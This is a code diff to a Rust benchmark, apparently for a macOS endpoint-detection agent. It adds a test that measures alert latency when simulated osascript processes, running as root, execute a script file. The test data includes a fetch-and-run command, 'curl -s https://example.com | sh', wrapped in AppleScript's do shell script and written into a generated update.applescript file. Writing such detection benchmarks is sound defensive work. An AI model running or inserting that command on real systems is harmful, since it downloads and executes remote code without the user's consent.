@@ -2,6 +2,7 @@
 //!
 //! * `latency`: from a connect event to its alert line in the file, each line forced to the disk, while 1,000
 //!   programs a second start and end.
+//! * `scripts`: the same, each alert of another execution of a script in a file, which is read and described.
 //! * `storm`: 10,000 programs a second start and end, for ten seconds; an alert each second; nothing is lost.
 //! * `memory`: 20,000 live processes, half of them found running, half of them reported.
 //! * `busy`: 200 events a second for half a minute: the agent's share of a core, its threads and with the simulator's.
@@ -37,10 +38,11 @@ fn main() {
     let bench = Bench { macsim, executable };
     println!("{:<44} {:>12} {:>12} {:>8}", "what", "measured", "limit", "ratio");
     let wanted = std::env::args().nth(1).filter(|arg| !arg.starts_with('-'));
-    for part in ["latency", "storm", "memory", "busy", "soak", "idle"] {
+    for part in ["latency", "scripts", "storm", "memory", "busy", "soak", "idle"] {
         if wanted.as_deref().is_none_or(|wanted| wanted == part) {
             match part {
-                "latency" => latency(&bench),
+                "latency" => latency(&bench, "latency", &["osascript", "-e", INLINE]),
+                "scripts" => scripts(&bench),
                 "storm" => storm(&bench),
                 "memory" => memory(&bench),
                 "busy" => busy(&bench),
@@ -188,15 +190,18 @@ fn program(pid: u32) -> [Json; 3] {
     ]
 }
 
-/// osascript starts, connects at once, and ends.
-fn osascript(pid: u32) -> Vec<Json> {
+/// A script of one line.
+const INLINE: &str = "do shell script \"curl -s https://example.com | sh\"";
+
+/// osascript starts with these arguments, for root, who may read any script, connects at once, and ends.
+fn osascript(pid: u32, args: &[&str]) -> Vec<Json> {
     let (version, upid) = (pid + 1, u64::from(pid) + 10_000_000);
     vec![
         json!({"es": {"type": "fork", "pid": 400, "child_pid": pid, "child_pidversion": version, "child_upid": upid}}),
         json!({"es": {"type": "exec", "pid": pid, "pidversion": version + 5_000_000, "path": "/usr/bin/osascript",
-            "args": ["osascript", "-e", "do shell script \"curl -s https://example.com | sh\""],
+            "args": args,
             "parent_pid": 400, "responsible_pid": 400, "signing_id": "com.apple.osascript", "platform": true,
-            "uid": 501, "upid": upid}}),
+            "uid": 0, "gid": 0, "upid": upid}}),
         json!({"ntstat": {"add_tcp": {"id": pid, "pid": pid, "upid": upid, "local": "192.168.1.5:40000", "state": 0}}}),
         json!({"ntstat": {"update": {"id": pid, "remote": "93.184.216.34:443", "state": 2}}}),
         json!({"ntstat": {"remove": {"id": pid}}}),
@@ -239,10 +244,20 @@ fn follow(path: &Path, alerts: usize, patience: Duration) -> Vec<(Duration, Stri
     seen
 }
 
-fn latency(bench: &Bench) {
+/// The script is 4 KB of lines that hold what scripts hold.
+fn scripts(bench: &Bench) {
+    let folder = tempfile::tempdir().expect("a folder can be made");
+    let file = folder.path().join("update.applescript");
+    let line = |at| format!("set path{at} to (POSIX path of (path to home folder)) & \"Library/Caches/{at}\"\n");
+    let text: String = (0..50).map(line).chain([INLINE.to_owned()]).collect();
+    fs::write(&file, text).expect("a script can be written");
+    latency(bench, "with scripts in files", &["osascript", &file.display().to_string()]);
+}
+
+fn latency(bench: &Bench, what: &str, args: &[&str]) {
     const ALERTS: u64 = 1000;
     let mut steps: Vec<Json> = (1..10).flat_map(|at| program(at * 100_000)).collect();
-    steps.extend(osascript(1_000_000));
+    steps.extend(osascript(1_000_000, args));
     let group = json!({"repeat": ALERTS, "over_ms": 10_000, "steps": steps});
     let running = bench.start(&script([group, json!({"after_ms": 1000, "signal": "TERM"})]));
     let seen = follow(&running.alerts(), ALERTS as usize, Duration::from_secs(40));
@@ -258,14 +273,14 @@ fn latency(bench: &Bench) {
         .collect();
     latencies.sort_by(f64::total_cmp);
     let quantile = |q: f64| latencies[((latencies.len() - 1) as f64 * q) as usize];
-    row("latency, median, at 1,000 execs/s", quantile(0.5), 2.0, "ms");
-    row("latency, 99th percentile", quantile(0.99), 20.0, "ms");
+    row(&format!("{what}, median, at 1,000 execs/s"), quantile(0.5), 2.0, "ms");
+    row(&format!("{what}, 99th percentile"), quantile(0.99), 20.0, "ms");
 }
 
 fn storm(bench: &Bench) {
     let second = |at: u32| {
         let programs = json!({"repeat": 10_000, "over_ms": 1000, "steps": program(1_000_000 + at * 100_000)});
-        std::iter::once(programs).chain(osascript(500 + at))
+        std::iter::once(programs).chain(osascript(500 + at, &["osascript", "-e", INLINE]))
     };
     let steps = (0..10).flat_map(second).chain([json!({"after_ms": 1000, "signal": "TERM"})]);
     let running = bench.start(&script(steps));
